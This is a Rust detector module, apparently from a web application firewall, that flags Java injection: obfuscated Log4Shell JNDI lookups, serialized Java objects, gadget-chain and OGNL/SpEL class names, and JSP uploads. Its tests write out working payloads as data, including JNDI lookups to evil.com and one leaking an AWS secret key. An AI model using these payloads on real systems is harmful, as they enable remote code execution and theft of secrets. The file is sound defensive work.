//! Java injection: JNDI lookups (Log4Shell) through their obfuscations, serialized Java
//! objects (gadget chains), and the classes exploit payloads reach for (Runtime,
//! ProcessBuilder, commons-collections transformers, OGNL/xwork2, Spring's classLoader path).

use crate::{signal, Detector};
use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind};
use palisade_normalize::classes as bc;
use palisade_normalize::{ByteClasses, Value};
use palisade_types::{Category, PlaceKind, Signal};
use std::sync::LazyLock;

pub struct Java;

/// Lookups nested deeper than this are resolved no further (and are suspicious anyway).
const MAX_LOOKUPS: usize = 64;

/// Resolves Log4j lookups the way Log4j would before it reaches `jndi:` — `${lower:J}`,
/// `${upper:n}`, `${::-d}`, `${env:NOPE:-i}`, `${date:'j'}` — innermost first. Unknown
/// lookups are dropped, as Log4j prints them empty.
fn resolve_lookups(text: &str) -> String {
    let mut s = text.to_string();
    for _ in 0..MAX_LOOKUPS {
        let Some(start) = s.rfind("${") else { break };
        let Some(len) = s[start..].find('}') else {
            break;
        };
        let inner = &s[start + 2..start + len];
        let lower = inner.to_ascii_lowercase();
        let value = if let Some((_, default)) = inner.split_once(":-") {
            default.to_string()
        } else if let Some(v) = lower
            .strip_prefix("lower:")
            .or_else(|| lower.strip_prefix("upper:"))
        {
            // Java's case mapping folds a few non-ASCII letters into ASCII: `ı` upper-cases
            // to `I`, `ſ` to `S`, the Kelvin sign lower-cases to `k` (`${upper:ı}`).
            v.chars()
                .map(|c| match c {
                    '\u{131}' => 'i',
                    '\u{17f}' => 's',
                    '\u{212a}' => 'k',
                    c => c,
                })
                .collect()
        } else if let Some(v) = lower.strip_prefix("date:") {
            v.trim_matches('\'').to_string()
        } else if lower.starts_with("jndi:") {
            // Keep the lookup itself, marked so the outer loop does not resolve it again.
            format!("\u{1}jndi:{}", &inner[5..])
        } else if naming_url_lookup(&lower) {
            // `${jnd${upper:1}:ldap://…}`: a lookup whose name was assembled from pieces (and
            // came out wrong) still carries the naming URL it was built for.
            format!("\u{1}jndi:{lower}")
        } else {
            String::new()
        };
        s.replace_range(start..start + len + 1, &value);
    }
    s
}

/// A lookup (`prefix:scheme:/…`) whose argument is a JNDI naming URL: a short name, then
/// `ldap:/`, `rmi:/` or another scheme only JNDI resolves. No Log4j lookup but `jndi` takes
/// one, and no configuration writes one.
fn naming_url_lookup(lower: &str) -> bool {
    let Some((name, rest)) = lower.split_once(':') else {
        return false;
    };
    (1..=10).contains(&name.len())
        && name.bytes().all(|b| b.is_ascii_alphanumeric())
        && [
            "ldap:/", "ldaps:/", "rmi:/", "dns:/", "iiop:/", "corba:/", "nds:/", "nis:/",
        ]
        .iter()
        .any(|s| rest.starts_with(s))
}

static CLASSES: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasickBuilder::new()
        .kind(Some(AhoCorasickKind::DFA))
        .ascii_case_insensitive(true)
        .build([
            "java.lang.runtime",
            "java.lang.processbuilder",
            "java.lang.reflect",
            "java.lang.classloader",
            "javax.script.scriptenginemanager",
            "javax.naming.initialcontext",
            "invokertransformer",
            "chainedtransformer",
            "constanttransformer",
            "instantiatetransformer",
            "clonetransformer",
            "templatesimpl",
            "jdbcrowsetimpl",
            "com.opensymphony.xwork2",
            "ognl.ognlcontext",
            "@java.lang.",
            "class.module.classloader",
            "getruntime().exec",
            "processbuilder(",
            // OGNL (Struts 2) reaching past its sandbox: the member-access switch, the
            // context map, the utility that clears the excluded classes.
            "#_memberaccess",
            "@ognl.",
            "#context[",
            "ognlutil",
        ])
        // A constant list of plain strings: building cannot fail.
        .unwrap_or_else(|_| unreachable!())
});

impl Java {
    fn check(text: &str, place: PlaceKind, classes: ByteClasses) -> Option<(f32, &'static str)> {
        let b = text.as_bytes();
        if b.contains(&b'$') && text.contains("${") {
            let resolved = resolve_lookups(text).to_ascii_lowercase();
            if resolved.contains("\u{1}jndi:") || resolved.contains("${jndi:") {
                return Some((0.95, "JNDI lookup"));
            }
        }
        if serialized(text, place, classes) {
            return Some((0.85, "serialized Java object"));
        }
        // A JNDI URL is the payload itself, with or without the `${…}` around it (an
        // HTML-decoding sink or a stripped brace leaves `jndi:ldap://…`).
        if b.len() >= 10 && classes.any(bc::COLON) && memchr::memmem::find(b, b"ndi:").is_some() {
            let lower = text.to_ascii_lowercase();
            if JNDI_URL.is_match(&lower) {
                return Some((0.9, "JNDI URL"));
            }
        }
        if CLASSES.is_match(text) {
            // `` In Java, `Runtime.getRuntime().exec(cmd)` is dangerous ``: code in a Markdown
            // span in a sentence is shown to a reader. Script engines (Groovy, MVEL,
            // BeanShell, OGNL) parse the whole text first, and the words around the span are
            // a syntax error to each; an expression language needs its `${`, `#{` or `%{`.
            let shown = classes.any(bc::BACKTICK)
                && !["${", "#{", "%{"].iter().any(|w| text.contains(w))
                && crate::shown_in_sentence(text, CLASSES.find_iter(text).map(|m| m.start()));
            if shown {
                return Some((0.6, "Java class shown in a sentence"));
            }
            // Code a page shows (`<pre>`, `<code>`, a Confluence code macro, a Markdown
            // fence): an editor's or a wiki's body, rendered escaped to a reader.
            if !["${", "#{", "%{"].iter().any(|w| text.contains(w)) {
                let blocks = crate::shown_code(text);
                let inside = |at: usize| blocks.iter().any(|&(a, b)| (a..b).contains(&at));
                if !blocks.is_empty() && CLASSES.find_iter(text).all(|m| inside(m.start())) {
                    return Some((0.6, "Java class in code a page shows"));
                }
            }
            if source_line_naming(text) {
                return Some((0.5, "Java class in an import or a comment"));
            }
            // `java.lang.reflect.InvocationTargetException`: an exception's name, as error
            // reports and log lines write them.
            if CLASSES.find_iter(text).all(|m| {
                stack_frame(text, m.end())
                    || throwable_after(text, m.end())
                    || exception_message(text, m.start())
            }) {
                return Some((0.5, "Java exception name or stack frame"));
            }
            return Some((0.85, EXPLOIT_CLASS));
        }
        if classes.any(bc::LPAREN) && spel_type(text) {
            return Some((0.85, "Spring expression naming a java.lang type"));
        }
        if text.contains('.') && DOTTED_PREFILTER.is_match(text) {
            return dotted(text);
        }
        None
    }
}

/// One line of Java source that names classes without running anything: an import
/// (`import java.lang.reflect.Constructor;`) or a comment (`// …`, `/** Sets the
/// MethodAccessor object for a java.lang.reflect.Method */`, a Javadoc line `* @see
/// #getBundle(java.lang.String, java.util.Locale, java.lang.ClassLoader)`). No script engine
/// or expression language runs an import alone or a comment; a comment that closes before
/// code (`/* */ java.lang.Runtime…`) is not one.
fn source_line_naming(text: &str) -> bool {
    let t = text.trim();
    if t.contains('\n') {
        return false;
    }
    if let Some(class) = t.strip_prefix("import ").and_then(|r| r.strip_suffix(';')) {
        let class = class.trim().strip_prefix("static ").unwrap_or(class.trim());
        return class
            .bytes()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'*' | b'$'));
    }
    if let Some(rest) = t.strip_prefix("/*") {
        return rest.find("*/").is_none_or(|end| end + 2 == rest.len());
    }
    t.starts_with("//") || t.starts_with("* ")
}

/// The last segment of a class name names a `Throwable` (`…Exception`,
/// `…Error`), as error reports write them: no payload instantiates one, except the one
/// exception a gadget chain is known to start from.
fn throwable(last: &str) -> bool {
    let ends = |suffix: &str| {
        last.len() >= suffix.len()
            && last.as_bytes()[last.len() - suffix.len()..].eq_ignore_ascii_case(suffix.as_bytes())
    };
    (ends("exception") || ends("error"))
        && !last.eq_ignore_ascii_case("badattributevalueexpexception")
}

/// Is the name at `start` inside the message of a thrown exception, on a line that an
/// exception's name opens (`ognl.NoSuchPropertyException: com.opensymphony.xwork2.Action
/// Support.foo`, `Caused by: …InvalidTypeIdException: Could not resolve type id 'com.sun.
/// rowset.JdbcRowSetImpl'…`)? The message reports what the program refused or could not
/// find; no engine evaluates a line that opens so, and the line holds none of the `{`, `@`,
/// `#`, `$` or `%` that an expression reaching a class needs.
fn exception_message(text: &str, start: usize) -> bool {
    let (line_start, line_end) = crate::line_around(text, start);
    let line = &text[line_start..line_end];
    if line.contains(['{', '}', '@', '#', '$', '%']) {
        return false;
    }
    let head = line.trim_start();
    let head = head.strip_prefix("Caused by: ").unwrap_or(head);
    let Some((name, _)) = head.split_once(": ") else {
        return false;
    };
    let opens_at = line_start + (line.len() - head.len()) + name.len() + 2;
    let last = name.rsplit('.').next().unwrap_or("");
    name.contains('.') && name_len(name) == name.len() && throwable(last) && start >= opens_at
}

/// How far a dotted Java name (with a frame's `<init>`) runs from the start of `rest`.
fn name_len(rest: &str) -> usize {
    rest.find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '$' | '<' | '>')))
        .unwrap_or(rest.len())
}

/// Does the dotted name reaching `end` go on to an exception's name
/// (`java.lang.reflect` + `.InvocationTargetException`) and stop there?
fn throwable_after(text: &str, end: usize) -> bool {
    let rest = &text[end..];
    let name_end = name_len(rest);
    let last = rest[..name_end].rsplit('.').next().unwrap_or("");
    !rest[name_end..].starts_with('(') && throwable(last)
}

/// Does the name ending at `end` go on as a stack frame's method and source location
/// (`java.lang.reflect.Method.invoke(Method.java:498)`, `….<init>(Native Method)`,
/// `(java.base@17/Runtime.java:620)`)? Error reports and log lines carry them; a source
/// location is no argument any language would call a method with.
fn stack_frame(text: &str, end: usize) -> bool {
    let rest = &text[end..];
    let name = name_len(rest);
    // A match that ends in its own `(` (`processbuilder(`) starts at the location.
    let Some(args) = rest[name..]
        .strip_prefix('(')
        .or_else(|| text[..end].ends_with('(').then_some(rest))
    else {
        return false;
    };
    let Some(close) = args.find(')') else {
        return false;
    };
    let loc = &args[..close];
    // A frame ends its line or its entry; a call chained on (`…(Runtime.java:1).exec(…)`)
    // is code.
    if args[close + 1..].starts_with(['.', '(', '[']) {
        return false;
    }
    if loc == "Native Method" || loc == "Unknown Source" {
        return true;
    }
    let file = loc.rsplit('/').next().unwrap_or(loc);
    let (file, line) = file.split_once(':').unwrap_or((file, "0"));
    file.strip_suffix(".java").is_some_and(|n| {
        !n.is_empty()
            && n.bytes()
                .all(|c| c.is_ascii_alphanumeric() || c == b'_' || c == b'$')
    }) && !line.is_empty()
        && line.bytes().all(|c| c.is_ascii_digit())
}

/// A Spring Expression Language type reference to `java.lang` (`T(java.lang.System)`,
/// `T (java.lang.Runtime)`): how SpEL injection reaches the runtime, with spaces the
/// `CLASSES` list does not spell.
fn spel_type(text: &str) -> bool {
    let b = text.as_bytes();
    memchr::memchr_iter(b'(', b).any(|at| {
        let before = text[..at].trim_end();
        let t = before.ends_with(['T', 't'])
            && !before[..before.len() - 1].ends_with(|c: char| c.is_alphanumeric() || c == '_');
        t && text[at + 1..]
            .trim_start()
            .get(..10)
            .is_some_and(|w| w.eq_ignore_ascii_case("java.lang."))
    })
}

/// `jndi:` and a naming scheme Log4j and JNDI resolve remotely.
static JNDI_URL: LazyLock<regex::Regex> = LazyLock::new(|| {
    regex::Regex::new(r"jndi:(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?):/")
        // A constant pattern: compiling it cannot fail.
        .unwrap_or_else(|_| unreachable!())
});

/// A serialized Java object: its stream magic `AC ED 00 05` raw, in hex, or in base64 at
/// any of the three byte alignments (`rO0AB`, `KztAAU`, `Cs7QAF`: how it reads when one
/// or two bytes precede it). Base64 forms count at the start of a token only, where a
/// payload begins; five or six fixed characters there do not occur by chance.
fn serialized(text: &str, place: PlaceKind, classes: ByteClasses) -> bool {
    // The value's start, by its first byte (this runs for every value).
    let t = text.as_bytes().trim_ascii_start();
    let at_start = match t.first() {
        Some(0xc2) => t.starts_with("\u{ac}\u{ed}".as_bytes()),
        Some(b'a' | b'A') => t
            .get(..8)
            .is_some_and(|h| h.eq_ignore_ascii_case(b"aced0005")),
        Some(b'r' | b'K' | b'C') => {
            [&b"rO0AB"[..], b"KztAAU", b"Cs7QAF"]
                .iter()
                .any(|m| t.starts_with(m))
                && !t.contains(&b'<')
        }
        _ => false,
    };
    if at_start {
        return true;
    }
    // A payload is a whole value (a parameter, a JSON leaf, an XML text), or it follows
    // `=`, `:`, a quote or a line break in a value nothing split further (a text body, a
    // multipart part, a header): elsewhere the value's start was all to look at.
    let unsplit = matches!(
        place,
        PlaceKind::Body
            | PlaceKind::Multipart
            | PlaceKind::File
            | PlaceKind::Header
            | PlaceKind::Cookie
    );
    if !unsplit || !classes.any(bc::EQ | bc::COLON | bc::SQUOTE | bc::DQUOTE | bc::NEWLINE) {
        return false;
    }
    let b = text.as_bytes();
    // Each magic has a byte rare in text at a fixed offset (`O`, `z`, `Q`): memchr finds the
    // candidates, most values have none.
    memchr::memchr3_iter(b'O', b'z', b'Q', b).any(|hit| {
        let (magic, offset): (&[u8], usize) = match b[hit] {
            b'O' => (b"rO0AB", 1),
            b'z' => (b"KztAAU", 1),
            _ => (b"Cs7QAF", 3),
        };
        let Some(at) = hit.checked_sub(offset) else {
            return false;
        };
        if !b[at..].starts_with(magic) {
            return false;
        }
        let starts = at == 0
            || !(b[at - 1].is_ascii_alphanumeric() || matches!(b[at - 1], b'+' | b'/' | b'<'));
        // A markup name (`<rO0ABQ …>`, `rO0ABQ="…"`) is no payload.
        let token_end = b[at..]
            .iter()
            .position(|c| !(c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/')))
            .map_or(b.len(), |n| at + n);
        starts && !b[token_end..].starts_with(b"=\"")
    })
}

/// What [`dotted`] looks for, as one automaton: most dotted values (versions, host names,
/// e-mail addresses, user agents) are rejected here without a copy.
static DOTTED_PREFILTER: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasickBuilder::new()
        .ascii_case_insensitive(true)
        .build(["runtime", "processbuilder"].iter().chain(PACKAGES))
        // A constant list of plain strings: building cannot fail.
        .unwrap_or_else(|_| unreachable!())
});

/// Gadget-chain classes and methods payloads pair with `Runtime` or `ProcessBuilder`.
const GADGETS: &[&str] = &[
    "java",
    "clonetransformer",
    "forclosure",
    "instantiatefactory",
    "instantiatetransformer",
    "invokertransformer",
    "prototypeclonefactory",
    "prototypeserializationfactory",
    "whileclosure",
    "getruntime",
    "exec",
    "start",
];

/// Packages whose classes a request names only to have them instantiated: a Jackson or
/// XStream type, a deserialization gadget, an expression-language target.
const PACKAGES: &[&str] = &[
    "java.io.",
    "java.lang.",
    "java.net.",
    "java.nio.",
    "javax.",
    "com.sun.",
    "sun.misc.",
    "org.omg.corba",
    "org.apache.commons",
    "org.springframework.",
    "com.mchange.",
];

/// Dotted identifiers (`java.evil.runtime`, `runtime.forclosure`, `java.io.FileOutputStream`):
/// a command sink chained with a gadget, or a value that is nothing but a class of a package
/// payloads instantiate. A class name inside prose (`we use java.lang.String here`) is
/// recorded, not blocked.
fn dotted(text: &str) -> Option<(f32, &'static str)> {
    let lower = text.to_ascii_lowercase();
    let mut best: Option<(f32, &'static str)> = None;
    // A path (`java.net.http/java/net/http/HttpClient.java`, a module's source tree) names
    // a directory, not a class to instantiate.
    let whole =
        !lower.trim().contains(char::is_whitespace) && lower.len() <= 120 && !lower.contains('/');
    for chain in
        lower.split(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '_' || c == '$'))
    {
        if !chain.contains('.') {
            continue;
        }
        let parts: Vec<&str> = chain.split('.').filter(|p| !p.is_empty()).collect();
        let sink = parts
            .iter()
            .any(|p| *p == "runtime" || *p == "processbuilder");
        // `Runtime.getRuntime()` alone is how Java code reads the processor count or memory
        // (`Runtime.getRuntime().availableProcessors()`); with `exec` it runs a command.
        // `Runtime.java`, `ProcessBuilder.java`: a source file's extension is no package.
        let source_file = parts.last() == Some(&"java") && parts.len() == 2;
        let gadget = !source_file
            && parts.iter().any(|p| {
                *p != "runtime"
                    && *p != "processbuilder"
                    && GADGETS.contains(p)
                    && (*p != "getruntime" || lower.contains("exec"))
            });
        if sink && gadget && parts.len() >= 2 {
            return Some((0.85, "command sink in a gadget chain"));
        }
        // Faces' own request parameters (`javax.faces.ViewState`, `javax.faces.partial.ajax`
        // in every JSF and PrimeFaces postback) and resource library (`ln=javax.faces`)
        // name the protocol; no gadget lives in the package.
        let faces = chain.starts_with("javax.faces.") || chain == "javax.faces";
        if PACKAGES.iter().any(|p| chain.starts_with(p)) && parts.len() >= 3 && !faces {
            best = Some(
                if whole && !throwable(parts.last().copied().unwrap_or("")) {
                    (0.8, CLASS_VALUE)
                } else {
                    (0.5, "Java class named in text")
                },
            );
        }
    }
    best
}

const CLASS_VALUE: &str = "Java class as the value";
const EXPLOIT_CLASS: &str = "Java exploit class";

/// A bare class or method name in an error report's structured trace: a frame's method
/// or module (`"method": "java.lang.Runtime.exec"` in a Bugsnag stack trace,
/// `"module": "java.lang.reflect.Method"` in a Sentry frame) or an exception's class
/// (`"errorClass"`). Crash reporters of Android and JVM apps send these in every report;
/// they record where a program was, and the reporter's ingestion instantiates nothing.
/// So is an exception's message there (`class java.lang.reflect.Method cannot be cast to
/// class java.lang.String`) that calls none of the names it gives.
/// A JSON path through a trace (`stacktrace`, `stack_trace`, `backtrace`, `frames`) or an
/// exception (`exception`, `exceptions`, `error`, `errors`), and a value that is only a
/// dotted name or such a message, none of the `{`, `@`, `#`, `$`, `%`, `;` or backticks
/// an expression needs; a type key a deserializer reads (`@class`, `@type`) is never one.
fn error_report_name(value: &Value) -> bool {
    if value.place.kind != PlaceKind::JsonValue {
        return false;
    }
    let path = value.place.name.to_ascii_lowercase();
    let segments = path.split(['.', '[', ']', '$']).filter(|s| !s.is_empty());
    let mut report = false;
    let mut last = "";
    for seg in segments {
        report |= matches!(
            seg,
            "stacktrace"
                | "stack_trace"
                | "backtrace"
                | "frames"
                | "exception"
                | "exceptions"
                | "error"
                | "errors"
        );
        last = seg;
    }
    let t = value.text().trim();
    if !report || last.starts_with('@') || t.is_empty() {
        return false;
    }
    if name_len(t) == t.len() {
        return !t.contains(['<', '>']);
    }
    !t.contains(['{', '}', '@', '#', '$', '%', ';', '`'])
        && CLASSES.find_iter(t).all(|m| {
            let rest = &t[m.start()..];
            !rest[name_len(rest)..].starts_with('(')
        })
}

/// A package in a field for a Maven coordinate's group (`<groupId>org.apache.commons
/// </groupId>` in a POM a repository manager receives, `"group": "org.springframework.boot"`
/// in a CycloneDX SBOM): a namespace of artifacts, which no deserializer instantiates. Only
/// a package, every segment lower-case; a class in such a field (`com.sun.rowset.
/// JdbcRowSetImpl`) still counts.
fn maven_group(value: &Value) -> bool {
    let field = value
        .place
        .name
        .rsplit(['/', '.', '[', ']', '$'])
        .find(|s| !s.is_empty())
        .unwrap_or("");
    ["groupid", "group_id", "group"]
        .iter()
        .any(|f| field.eq_ignore_ascii_case(f))
        && !value.text().bytes().any(|b| b.is_ascii_uppercase())
}

/// A file name the servlet container compiles and runs (`a.jsp`, `shell. jspx`).
fn uploads_jsp(value: &Value) -> bool {
    crate::uploaded_extension(value).is_some_and(|ext| {
        matches!(
            ext.as_str(),
            "jsp" | "jspx" | "jspf" | "jsw" | "jsv" | "jtml"
        )
    })
}

impl Detector for Java {
    fn name(&self) -> &'static str {
        "java"
    }

    fn inspect(&self, value: &Value, out: &mut Vec<Signal>) {
        // An uploaded JSP is a web shell wherever the servlet container serves it.
        if value.classes.any(bc::DOT) && uploads_jsp(value) {
            out.push(signal(
                "java",
                Category::JavaInjection,
                0.9,
                value,
                value.text(),
                "JSP upload",
            ));
            return;
        }
        // Lookups need '$', class names and JNDI URLs '.' or ':', OGNL's context `#`;
        // without them only a serialized object can be there.
        if !value
            .classes
            .any(bc::DOLLAR | bc::DOT | bc::COLON | bc::HASH)
        {
            if serialized(value.text(), value.place.kind, value.classes) {
                out.push(signal(
                    "java",
                    Category::JavaInjection,
                    0.85,
                    value,
                    value.text(),
                    "serialized Java object",
                ));
            }
            return;
        }
        if let Some((c, why)) = Java::check(value.text(), value.place.kind, value.classes) {
            let c = if (why == CLASS_VALUE && maven_group(value))
                || ((why == CLASS_VALUE || why == EXPLOIT_CLASS) && error_report_name(value))
            {
                c.min(0.5)
            } else {
                c
            };
            out.push(signal(
                "java",
                Category::JavaInjection,
                c,
                value,
                value.text(),
                why,
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> bool {
        crate::hits(&Java, s)
    }

    #[test]
    fn log4shell_and_its_obfuscations_are_caught() {
        for s in [
            "${jndi:ldap://evil.com/a}",
            // A name assembled wrong, the naming URL still there (mgm's payload list).
            "${jnd${upper:1}:ldap://y8rj5089x9qx7.fake.domain}",
            "${${lower:j}ndi:ldap://evil.com/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.com/a}",
            "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap://evil.com/a}",
            "${${upper:j}${lower:N}di:dns://evil.com}",
            "${jnd${upper:\u{131}}:ldap://evil.com/a}",
            "%24%7Bjndi%3Aldap%3A%2F%2Fevil.com%2Fa%7D",
            "User ${jndi:ldap://x.example/${env:AWS_SECRET_ACCESS_KEY}}",
        ] {
            assert!(hit(s), "missed: {s}");
        }
    }

    #[test]
    fn gadgets_and_serialized_objects_are_caught() {
        for s in [
            "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==",
            "aced00057372",
            "KztAAU",
            "Cs7QAFzAAB",
            "\u{ac}\u{ed}\u{5}",
            "jndi:ldap://evil.com/a",
            "$&lbracejndi:rmi://evil.com/a}",
            "java.lang.Runtime",
            "org.apache.commons.collections.functors.InvokerTransformer",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
            "#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('id')",
        ] {
            assert!(hit(s), "missed: {s}");
        }
    }

    #[test]
    fn uploads_and_serialized_bodies_are_caught_by_place() {
        use palisade_types::{Place, PlaceKind};
        let flags = |kind, name: &str, text: &str| {
            let v = Value::new(Place::new(kind, name), text.to_string(), 3);
            let mut out = Vec::new();
            Java.inspect(&v, &mut out);
            out.iter().any(|s| s.confidence >= 0.7)
        };
        assert!(flags(PlaceKind::Filename, "file", "shell.jsp"));
        assert!(flags(PlaceKind::Filename, "file", "shell. jspx"));
        assert!(flags(PlaceKind::Header, "X-Filename", "a.JSP"));
        assert!(!flags(PlaceKind::Filename, "file", "notes.json"));
        assert!(!flags(PlaceKind::QueryValue, "page", "index.jsp"));
        // Inside a text body or a multipart part, after `=` or a quote.
        assert!(flags(PlaceKind::Body, "", "test=rO0ABQ"));
        assert!(flags(
            PlaceKind::Multipart,
            "payload",
            "{\"KztAAU\": \"test\"}"
        ));
        assert!(!flags(PlaceKind::Body, "", "<rO0ABQ a=\"b\">v</rO0ABQ>"));
    }

    #[test]
    fn templates_prices_and_prose_stay_clean() {
        for s in [
            "Hello ${name}, your order ${order.id} shipped",
            "Price: ${price}",
            "We run Java in production; the runtime is fast",
            "rO0 is not base64 of anything special",
            "token=aGVsbG8rO0ABxyz",
            "<rO0ABQ a=\"b\">v</rO0ABQ>",
            "<e KztAAU=\"v\"/>",
            "the jndi: prefix names a lookup",
            // Shell defaults and config placeholders with a URL in them.
            "${LDAP_URL:-ldap://localhost:389}",
            "${ldap.url} is ldap://directory.example.com",
            "url=${env:LDAP_URL}",
        ] {
            assert!(!hit(s), "false positive: {s}");
        }
    }
}
